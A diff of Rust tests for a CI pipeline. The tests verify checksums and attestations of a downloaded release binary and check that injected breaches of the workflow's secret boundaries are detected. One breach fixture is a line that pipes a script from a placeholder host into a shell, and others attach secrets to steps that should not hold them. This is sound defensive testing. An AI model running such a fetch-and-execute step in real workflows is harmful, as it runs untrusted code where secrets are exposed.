+    std::fs::write(
+        built.join("uworker-image"),
+        "#!/bin/sh\necho uworker-image 1.2.0\n",
+    )
+    .unwrap();
+    std::fs::set_permissions(
+        built.join("uworker-image"),
+        std::os::unix::fs::PermissionsExt::from_mode(0o755),
+    )
+    .unwrap();
+    let r = run({
+        let mut cmd = Command::new(repo().join("scripts/package-release.sh"));
+        cmd.args([
+            built.join("uworker-image").to_str().unwrap(),
+            "x86_64-unknown-linux-musl",
+            download.to_str().unwrap(),
+        ]);
+        cmd
+    });
+    assert_eq!(r.code, 0, "{}", r.all());
+    let bin = tmp.path().join("bin");
+    std::fs::create_dir_all(&bin).unwrap();
+    std::fs::write(
+        bin.join("gh"),
+        "#!/bin/sh\necho \"$@\" >>\"$RUNNER_TEMP/gh-args\"\n",
+    )
+    .unwrap();
+    std::fs::set_permissions(
+        bin.join("gh"),
+        std::os::unix::fs::PermissionsExt::from_mode(0o755),
+    )
+    .unwrap();
+    let sums = download.join("uworker-image-x86_64-unknown-linux-musl.tar.gz.sha256");
+    let good_sums = std::fs::read_to_string(&sums).unwrap();
+    let fetch = |version: &str, workflow_ref: &str| {
+        let runner = tempfile::tempdir().unwrap();
+        let output = runner.path().join("output");
+        std::fs::write(&output, "").unwrap();
+        let r = run_step(
+            &script,
+            &bin,
+            &[
+                ("GH_TOKEN", "t"),
+                ("TOOL_VERSION", version),
+                ("WORKFLOW_REF", workflow_ref),
+                ("REPOSITORY", "OWNER/uworker-image"),
+                ("GITHUB_SERVER_URL", &format!("file://{}", server.display())),
+                ("RUNNER_TEMP", runner.path().to_str().unwrap()),
+                ("GITHUB_OUTPUT", output.to_str().unwrap()),
+            ],
+        );
+        let gh = std::fs::read_to_string(runner.path().join("gh-args")).unwrap_or_default();
+        (r, std::fs::read_to_string(&output).unwrap(), gh)
+    };
+    let at_tag = "OWNER/uworker-image/.github/workflows/pipeline.yml@refs/tags/v1.2.0";
+    // The tag the workflow is called at, or the one asked for: checked, attested, output.
+    for (version, workflow_ref) in [
+        ("", at_tag),
+        ("v1.2.0", "x/y/.github/workflows/p.yml@refs/heads/main"),
+    ] {
+        let (r, output, gh) = fetch(version, workflow_ref);
+        assert_eq!(r.code, 0, "{version:?}: {}", r.all());
+        assert_eq!(
+            output,
+            format!("sha256={}\n", sha256_hex(&built.join("uworker-image")))
+        );
+        assert_eq!(
+            gh,
+            "attestation verify uworker-image-x86_64-unknown-linux-musl.tar.gz --repo OWNER/uworker-image --signer-workflow OWNER/uworker-image/.github/workflows/release.yml\n"
+        );
+    }
+    // Called at a branch with no tool-version; a version that is no tag.
+    for (version, workflow_ref, message) in [
+        (
+            "",
+            "OWNER/uworker-image/.github/workflows/pipeline.yml@refs/heads/main",
+            "not at a release tag: set input tool-version",
+        ),
+        ("../v1", at_tag, "is not a release tag"),
+    ] {
+        let (r, output, _) = fetch(version, workflow_ref);
+        assert_ne!(r.code, 0, "{version:?}");
+        assert!(r.all().contains(message), "{}", r.all());
+        assert_eq!(output, "");
+    }
+    // A .sha256 that does not match, names another file, or has a second line: refused
+    // before gh, never output.
+    let (hex, name) = good_sums.split_once("  ").unwrap();
+    for bad in [
+        format!("{}  {name}", "0".repeat(64)),
+        format!("{hex}  other.tar.gz\n"),
+        format!("{good_sums}{hex}  other.tar.gz\n"),
+    ] {
+        std::fs::write(&sums, &bad).unwrap();
+        let (r, output, gh) = fetch("v1.2.0", at_tag);
+        assert_ne!(r.code, 0, "{bad:?}: {}", r.all());
+        assert!(r.all().contains("refusing it"), "{}", r.all());
+        assert_eq!((output.as_str(), gh.as_str()), ("", ""), "{bad:?}");
+    }
+    std::fs::write(&sums, &good_sums).unwrap();
 }
 
 #[test]
 fn the_tool_is_reused_for_the_same_source_and_no_pull_request_writes_its_cache() {
-    // image.yml and sweep.yml call tool.yml for their binary.
-    for rel in [".github/workflows/image.yml", ".github/workflows/sweep.yml"] {
-        let job = &load(rel)["jobs"]["tool"];
-        assert_eq!(
-            job["uses"].as_str(),
-            Some("./.github/workflows/tool.yml"),
-            "{rel}"
-        );
-        assert_eq!(keys(&job["permissions"]), set(&["contents"]), "{rel}");
-        assert_eq!(job["permissions"]["contents"].as_str(), Some("read"));
-    }
-    let wf = load(".github/workflows/tool.yml");
-    assert_eq!(keys(&wf["on"]), set(&["workflow_call"]));
-    assert_eq!(
-        wf["on"]["workflow_call"]["outputs"]["sha256"]["value"].as_str(),
-        Some("${{ jobs.tool.outputs.sha256 }}")
-    );
+    let wf = load(PIPELINE);
     let job = &wf["jobs"]["tool"];
-    assert_eq!(
-        job["outputs"]["sha256"].as_str(),
-        Some("${{ steps.pack.outputs.sha256 }}")
-    );
+    assert_eq!(keys(&job["permissions"]), set(&["contents"]));
+    assert_eq!(job["permissions"]["contents"].as_str(), Some("read"));
+    let steps = job["steps"].as_vec().unwrap();
+    // tool-version `checkout` alone compiles: every step is for it.
+    for step in steps {
+        assert!(
+            step["if"].as_str().is_some_and(
+                |c| c == FROM_CHECKOUT || c.starts_with(&format!("{FROM_CHECKOUT} && "))
+            ),
+            "{}: {:?}",
+            step_label(step),
+            step["if"]
+        );
+    }
     let steps = job["steps"].as_vec().unwrap();
     let position = |what: &str| {
         let step = tool_step(steps, what);
@@ -876,7 +1410,7 @@ fn the_tool_is_reused_for_the_same_source_and_no_pull_request_writes_its_cache()
         !steps.iter().any(|s| s["uses"]
             .as_str()
             .is_some_and(|u| u.starts_with("actions/cache@"))),
-        "tool.yml uses actions/cache, which saves on pull requests too"
+        "job tool uses actions/cache, which saves on pull requests too"
     );
     let restore = tool_step(steps, "actions/cache/restore@");
     let save = tool_step(steps, "actions/cache/save@");
@@ -910,7 +1444,7 @@ fn the_tool_is_reused_for_the_same_source_and_no_pull_request_writes_its_cache()
     // Compiled only when nothing fit; uploaded either way, after the check.
     assert_eq!(
         tool_step(steps, "install")["if"].as_str(),
-        Some("steps.cached.outputs.hit != 'true'")
+        Some("inputs.tool-version == 'checkout' && steps.cached.outputs.hit != 'true'")
     );
     let order = [
         position("actions/checkout@"),
@@ -931,11 +1465,11 @@ fn the_tool_is_reused_for_the_same_source_and_no_pull_request_writes_its_cache()
     assert_eq!(cached["env"]["PREFIX"].as_str(), Some(key));
 }
 
-/// tool.yml's check of a restored binary, run for real: `hit=true` only when the binary
+/// Job `tool`'s check of a restored binary, run for real: `hit=true` only when the binary
 /// has the SHA-256 its cache key records.
 #[test]
 fn a_restored_binary_is_used_only_with_the_sha256_in_its_key() {
-    let wf = load(".github/workflows/tool.yml");
+    let wf = load(PIPELINE);
     let script = tool_step(wf["jobs"]["tool"]["steps"].as_vec().unwrap(), "cached")["run"]
         .as_str()
         .unwrap()
@@ -999,9 +1533,9 @@ fn a_restored_binary_is_used_only_with_the_sha256_in_its_key() {
     assert_eq!(output, "", "{}", r.all());
 }
 
-/// image.yml with `from` replaced by `to` once (the text must be there).
-fn image_workflow_with(from: &str, to: &str) -> Yaml {
-    let text = std::fs::read_to_string(repo().join(".github/workflows/image.yml")).unwrap();
+/// pipeline.yml with `from` replaced by `to` once (the text must be there).
+fn pipeline_with(from: &str, to: &str) -> Yaml {
+    let text = std::fs::read_to_string(repo().join(PIPELINE)).unwrap();
     assert!(text.contains(from), "the workflow has no `{from}`");
     YamlLoader::load_from_str(&text.replacen(from, to, 1))
         .unwrap()
@@ -1010,8 +1544,7 @@ fn image_workflow_with(from: &str, to: &str) -> Yaml {
 
 #[test]
 fn each_secret_boundary_check_catches_its_breach() {
-    let install_in_build =
-        "          binary-sha256: ${{ needs.tool.outputs.sha256 }}\n      # The release is made";
+    let install_in_build = "      - *install-tool\n      # The release is made";
     let exec_build = "          exec \"$tool\" \"${args[@]}\"\n        env: *cloud-and-worker-secrets\n      - if: always()";
     let check_build = &format!("          tool=$(command -v uworker-image)\n          [[ $tool == /* ]]\n          /usr/bin/sha256sum --check --strict --quiet <<<\"$TOOL_SHA256  $tool\"\n{exec_build}");
     // sha256sum as PATH finds it; something run before the check.
@@ -1022,11 +1555,34 @@ fn each_secret_boundary_check_catches_its_breach() {
     let run_before_check =
         &format!("          curl -fsSL https://example.invalid/x.sh | sh\n{check_build}");
     let breaches = [
-        // The secrets on the install step (`uses: ./`: setup-packer and install.sh).
+        // The secrets on an action that installs (`uses: ./`: setup-packer and install.sh).
         (
             install_in_build,
-            "          binary-sha256: ${{ needs.tool.outputs.sha256 }}\n        env: *cloud-and-worker-secrets\n      # The release is made",
+            "      - *install-tool\n      - uses: ./\n        with:\n          binary: ${{ runner.temp }}/tool/uworker-image\n        env: *cloud-and-worker-secrets\n      # The release is made",
             "build: `uses: ./` gets a secret",
+        ),
+        // The secrets on the install step every job shares, or on the shared setup-packer.
+        (
+            "      - &install-tool\n        name: Install the run's uworker-image, checked\n",
+            "      - &install-tool\n        name: Install the run's uworker-image, checked\n        env:\n          OS_PASSWORD: ${{ secrets.OS_PASSWORD }}\n",
+            "pr-targets: `Install the run's uworker-image, checked` (run: install -D -m 0755 \"$RUNNER_TEMP/tool/uworker-image\" \"$RUNNER_TEMP/bin/uworker-image\") holds secrets but does not only `exec`",
+        ),
+        (
+            "      - &setup-packer\n        if: inputs.packer-version != ''\n",
+            "      - &setup-packer\n        if: inputs.packer-version != ''\n        env:\n          OS_PASSWORD: ${{ secrets.OS_PASSWORD }}\n",
+            "plan: `uses: hashicorp/setup-packer@c3d53c525d422944e50ee27b840746d6522b08de` gets a secret",
+        ),
+        // The job that fetches the release holds a token: it must not compile.
+        (
+            "          mkdir tool\n",
+            "          cargo build --release --locked\n          mkdir tool\n",
+            "tool-release: `Download the release binary and check it` (run: tag=$TOOL_VERSION) runs `cargo build` in a job that holds secrets",
+        ),
+        // Secrets for the whole workflow.
+        (
+            "  UWORKER_IMAGE_DIR: ${{ inputs.dir }}\n",
+            "  UWORKER_IMAGE_DIR: ${{ inputs.dir }}\n  OS_PASSWORD: ${{ secrets.OS_PASSWORD }}\n",
+            "secrets in the workflow's env reach every step",
         ),
         // A token in the env of another action.
         (
@@ -1053,8 +1609,8 @@ fn each_secret_boundary_check_catches_its_breach() {
         ),
         // `uses: ./` without the run's binary: install.sh compiles (cargo install).
         (
-            "          binary: ${{ runner.temp }}/tool/uworker-image\n          binary-sha256: ${{ needs.tool.outputs.sha256 }}\n      # Never",
-            "          binary-sha256: ${{ needs.tool.outputs.sha256 }}\n      # Never",
+            "      # Never the image of a target's current fingerprint",
+            "      - uses: ./\n      # Never the image of a target's current fingerprint",
             "prune: `uses: ./` builds the tool from source in a job that holds secrets",
         ),
         // The secrets' step runs the tool without exec: the runner's cancel would stop
@@ -1121,7 +1677,7 @@ fn each_secret_boundary_check_catches_its_breach() {
         ),
     ];
     for (from, to, violation) in breaches {
-        let found = secret_boundary_violations(&image_workflow_with(from, to));
+        let found = secret_boundary_violations(&pipeline_with(from, to));
         assert!(
             found.iter().any(|f| f.contains(violation)),
             "no `{violation}` in {found:#?}"
